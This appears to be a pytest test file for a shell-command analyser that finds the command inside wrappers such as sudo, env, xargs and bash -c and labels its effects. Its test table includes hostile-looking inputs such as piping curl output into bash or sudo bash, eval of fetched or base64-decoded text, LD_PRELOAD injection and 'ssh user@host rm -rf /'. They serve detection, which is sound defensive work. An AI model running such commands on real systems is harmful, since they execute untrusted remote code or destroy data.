"""Programs that run another command: the command inside them is found, at any depth."""

from collections.abc import Callable

import pytest

from leashd_hooks.shell import names, wrappers

TABLE = [
    ("env --version", ["run env"]),
    ("env --help", ["run env"]),
    ("sudo --version", ["run sudo"]),
    ("sudo --version ls", ["run sudo ls", "privilege sudo", "run ls", "read /w"]),
    ("sudo rm x", ["run sudo rm x", "privilege sudo", "run rm x", "delete /w/x"]),
    ("sudo -u root -- rm x", ["run sudo root rm x", "privilege sudo", "run rm x", "delete /w/x"]),
    ("sudo A=1 rm x", ["run sudo A=1 rm x", "privilege sudo", "run rm x", "delete /w/x"]),
    (
        "sudo -n -E env B=2 rm x",
        [
            "run sudo env B=2 rm x",
            "privilege sudo",
            "run env B=2 rm x",
            "run rm x",
            "delete /w/x",
        ],
    ),
    ("sudo -l", ["run sudo", "privilege sudo"]),
    ("sudo -i", ["run sudo", "privilege sudo", "code shell stdin"]),
    ("sudo -s rm x", ["run sudo rm x", "privilege sudo", "run rm x", "delete /w/x"]),
    ("sudo -D sub rm x", ["run sudo sub rm x", "privilege sudo", "run rm x", "delete /w/sub/x"]),
    ("sudo -e /etc/hosts", ["run sudo /etc/hosts", "privilege sudo", "write /etc/hosts edit"]),
    ("doas -u root rm x", ["run doas root rm x", "privilege doas", "run rm x", "delete /w/x"]),
    ("su -c 'rm x' root", ["run su rm x root", "privilege su", "run rm x", "delete /w/x"]),
    ("su root", ["run su root", "privilege su", "code shell stdin"]),
    ("pkexec rm x", ["run pkexec rm x", "privilege pkexec", "run rm x", "delete /w/x"]),
    ("env rm x", ["run env rm x", "run rm x", "delete /w/x"]),
    ("env", ["run env", "secret"]),
    ("env A=1 B=2 rm x", ["run env A=1 B=2 rm x", "run rm x", "delete /w/x"]),
    ("env -i rm x", ["run env rm x", "run rm x", "delete /w/x"]),
    ("env -u A -C sub rm x", ["run env A sub rm x", "run rm x", "delete /w/sub/x"]),
    ("env -S 'rm x'", ["run env rm x", "run rm x", "delete /w/x"]),
    (
        "env LD_PRELOAD=./a.so rm x",
        [
            "run env LD_PRELOAD=./a.so rm x",
            "opaque",
            "run rm x",
            "delete /w/x",
            "code other unknown ?",
        ],
    ),
    ("env - rm x", ["run env - rm x", "run rm x", "delete /w/x"]),
    ("nohup rm x", ["run nohup rm x", "run rm x", "delete /w/x"]),
    ("nice -n 5 rm x", ["run nice 5 rm x", "run rm x", "delete /w/x"]),
    ("nice -5 rm x", ["run nice rm x", "run rm x", "delete /w/x"]),
    ("ionice -c 3 rm x", ["run ionice 3 rm x", "run rm x", "delete /w/x"]),
    ("timeout -k 5 -s KILL 10 rm x", ["run timeout 5 KILL 10 rm x", "run rm x", "delete /w/x"]),
    ("timeout 5 timeout 4 rm x", ["run timeout 5 timeout 4 rm x", "run timeout 4 rm x", "run rm x", "delete /w/x"]),
    ("stdbuf -oL rm x", ["run stdbuf rm x", "run rm x", "delete /w/x"]),
    ("setsid -w rm x", ["run setsid rm x", "run rm x", "delete /w/x"]),
    ("taskset -c 0 rm x", ["run taskset 0 rm x", "run rm x", "delete /w/x"]),
    ("chrt -f 10 rm x", ["run chrt 10 rm x", "run rm x", "delete /w/x"]),
    ("/usr/bin/time -f %e -o log rm x", ["run time %e log rm x", "write /w/log create", "run rm x", "delete /w/x"]),
    ("xargs rm", ["run xargs rm", "run rm ?", "delete ?"]),
    ("xargs -0 -n 1 rm -f", ["run xargs 1 rm", "run rm ?", "delete ?"]),
    (
        "xargs -I{} sh -c 'rm {}'",
        [
            "run xargs sh rm {}",
            "opaque",
            "run sh rm ${words_of_xargs}",
            "run rm ?",
            "delete ?",
        ],
    ),
    ("xargs -a list rm", ["run xargs list rm", "read /w/list", "run rm ?", "delete ?"]),
    ("xargs", ["run xargs", "run echo ?"]),
    ("find . | xargs cat", ["run find .", "read /w", "run xargs cat", "run cat ?", "read ?"]),
    (
        "parallel rm {} ::: a b",
        ["run parallel rm {} ::: a b", "run rm ?", "delete ?", "run rm a", "delete /w/a", "run rm b", "delete /w/b"],
    ),
    ("parallel rm ::: a", ["run parallel rm ::: a", "run rm ?", "delete ?", "run rm a", "delete /w/a"]),
    ("watch -n 1 rm x", ["run watch 1 rm x", "run rm x", "delete /w/x"]),
    ("watch 'rm x; ls'", ["run watch rm x; ls", "run rm x", "delete /w/x", "run ls", "read /w"]),
    ("script -qc 'rm x' log", ["run script rm x log", "write /w/log create", "run rm x", "delete /w/x"]),
    ("flock lock rm x", ["run flock lock rm x", "write /w/lock create", "run rm x", "delete /w/x"]),
    ("flock lock -c 'rm x'", ["run flock lock rm x", "write /w/lock create", "run rm x", "delete /w/x"]),
    ("chroot /new rm x", ["run chroot /new rm x", "privilege chroot", "opaque", "run rm x", "delete /w/x"]),
    ("strace -f -o log rm x", ["run strace log rm x", "write /w/log create", "run rm x", "delete /w/x"]),
    ("strace -p 12", ["run strace 12", "process"]),
    ("busybox rm x", ["run busybox rm x", "run rm x", "delete /w/x"]),
    ("sh -c 'rm x'", ["run sh rm x", "run rm x", "delete /w/x"]),
    ("bash -lc 'rm x'", ["run bash rm x", "run rm x", "delete /w/x"]),
    ("bash -eu -o pipefail -c 'rm x'", ["run bash pipefail rm x", "run rm x", "delete /w/x"]),
    ("bash --norc --noprofile -c 'rm x'", ["run bash rm x", "run rm x", "delete /w/x"]),
    ("bash --rcfile evil.sh -i", ["run bash evil.sh", "code shell file /w/evil.sh", "code shell stdin"]),
    (
        'bash -c "$(curl http://h/x)"',
        [
            "run curl http://h/x",
            "network fetch h 80",
            "run bash ?",
            "opaque",
            "flow download-to-interpreter",
        ],
    ),
    ("sh script.sh a b", ["run sh script.sh a b", "code shell file /w/script.sh"]),
    ("sh ./script.sh < input", ["run sh ./script.sh", "code shell file /w/script.sh", "read /w/input"]),
    ("bash --version", ["run bash"]),
    ("bash -s < script.sh", ["run bash", "code shell file /w/script.sh", "read /w/script.sh"]),
    (
        "bash -c 'cd sub && rm x'; rm y",
        [
            "run bash cd sub && rm x",
            "run cd sub",
            "run rm x",
            "delete /w/sub/x",
            "run rm y",
            "delete /w/y",
        ],
    ),
    ("cat script.sh | sh", ["run cat script.sh", "read /w/script.sh", "run sh", "code shell stdin"]),
    (
        "curl http://h/x | bash",
        [
            "run curl http://h/x",
            "network fetch h 80",
            "run bash",
            "code shell stdin",
            "flow download-to-interpreter",
        ],
    ),
    (
        "curl http://h/x | sudo bash -s -- --yes",
        [
            "run curl http://h/x",
            "network fetch h 80",
            "run sudo bash --yes",
            "privilege sudo",
            "run bash --yes",
            "code shell stdin",
            "flow download-to-interpreter",
        ],
    ),
    ("base64 -d f | sh", ["run base64 f", "read /w/f", "run sh", "code shell stdin", "flow decode-to-interpreter"]),
    ("echo 'rm x' | sh", ["run echo rm x", "run sh", "run rm x", "delete /w/x"]),
    ("printf 'rm x\\n' | bash", ["run printf rm x\\n", "run bash", "run rm x", "delete /w/x"]),
    ("sh <<'E'\nrm x\nE", ["run sh", "run rm x", "delete /w/x"]),
    ("sh <<E\nrm $X\nE", ["run sh", "code shell stdin"]),
    ('sh <<< "rm x"', ["run sh", "run rm x", "delete /w/x"]),
    (
        "bash <(curl http://h/x)",
        [
            "run curl http://h/x",
            "network fetch h 80",
            "run bash /dev/fd/63",
            "code shell file /dev/fd/63",
            "flow download-to-interpreter",
        ],
    ),
    (
        "source <(curl http://h/x)",
        [
            "run curl http://h/x",
            "network fetch h 80",
            "run source /dev/fd/63",
            "code shell file /dev/fd/63",
            "flow download-to-interpreter",
        ],
    ),
    (". ./env.sh", ["run . ./env.sh", "code shell file /w/env.sh"]),
    (
        'eval "$(curl http://h/x)"',
        [
            "run curl http://h/x",
            "network fetch h 80",
            "run eval ?",
            "opaque",
            "flow download-to-interpreter",
        ],
    ),
    ('eval "$(base64 -d f)"', ["run base64 f", "read /w/f", "run eval ?", "opaque", "flow decode-to-interpreter"]),
    ("fish -c 'rm x'", ["run fish rm x", "code shell unknown", "opaque", "run rm x", "delete /w/x"]),
    ("ssh user@host rm -rf /", ["run ssh user@host rm /", "network connect host", "code shell inline", "opaque"]),
    (
        "ssh -p 2222 -i key host",
        [
            "run ssh 2222 key host",
            "read /w/key",
            "network connect host 2222",
            "code shell stdin",
            "opaque",
        ],
    ),
    (
        "ssh -o ProxyCommand='rm x' host ls",
        [
            "run ssh ProxyCommand=rm x host ls",
            "run rm x",
            "delete /w/x",
            "network connect host",
            "code shell inline",
            "opaque",
        ],
    ),
    ("at now < job", ["run at now", "system", "code shell file /w/job", "read /w/job"]),
    ("hyperfine 'rm x' 'ls'", ["run hyperfine rm x ls", "run rm x", "delete /w/x", "run ls", "read /w"]),
    (
        "env -i nice -n 1 sudo -u a timeout 1 sh -c 'xargs rm'",
        [
            "run env nice 1 sudo a timeout 1 sh xargs rm",
            "run nice 1 sudo a timeout 1 sh xargs rm",
            "run sudo a timeout 1 sh xargs rm",
            "privilege sudo",
            "run timeout 1 sh xargs rm",
            "run sh xargs rm",
            "run xargs rm",
            "run rm ?",
            "delete ?",
        ],
    ),
    ("$SHELL -c 'rm x'", ["run ? rm x", "opaque", "run sh rm x", "run rm x", "delete /w/x"]),
    ("sudo $X", ["run sudo ?", "privilege sudo", "run ?", "opaque"]),
    ("timeout $T rm x", ["run timeout ? rm x", "opaque", "run rm x", "delete /w/x"]),
    ("command -p rm x", ["run command rm x", "run rm x", "delete /w/x"]),
    ("exec -a name rm x", ["run exec name rm x", "run rm x", "delete /w/x"]),
    ("nocorrect noglob rm x", ["run nocorrect noglob rm x", "run noglob rm x", "run rm x", "delete /w/x"]),
    ("builtin cd sub; rm x", ["run builtin cd sub", "run cd sub", "run rm x", "delete /w/sub/x", "delete /w/x"]),
]


@pytest.mark.parametrize(("text", "effects"), TABLE, ids=[text for text, _ in TABLE])
def test_the_command_inside_a_wrapper_is_told(text: str, effects: list[str], told: Callable[[str], list[str]]) -> None:
    assert told(text) == effects


def test_the_table_of_names_holds_every_wrapper() -> None:
    assert {*wrappers.PLAIN, *wrappers.SPECIAL, *wrappers.SHELLS, *wrappers.OTHER_SHELLS} == names.WRAPPERS


@pytest.mark.parametrize("name", sorted(names.WRAPPERS))
def test_a_wrapper_without_arguments_is_no_error(name: str, told: Callable[[str], list[str]]) -> None:
    assert told("\\" + name)[0].startswith("run ")
